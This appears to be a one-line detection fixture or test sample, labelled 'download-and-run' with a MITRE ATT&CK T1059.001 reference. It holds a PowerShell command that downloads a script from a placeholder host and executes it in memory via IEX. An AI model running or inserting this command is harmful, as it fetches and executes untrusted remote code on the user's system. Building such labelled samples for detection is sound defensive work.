# expect: download-and-run | source: MITRE ATT&CK T1059.001
IEX ((New-Object Net.WebClient).DownloadString('http://files.example.invalid/stage.ps1'))
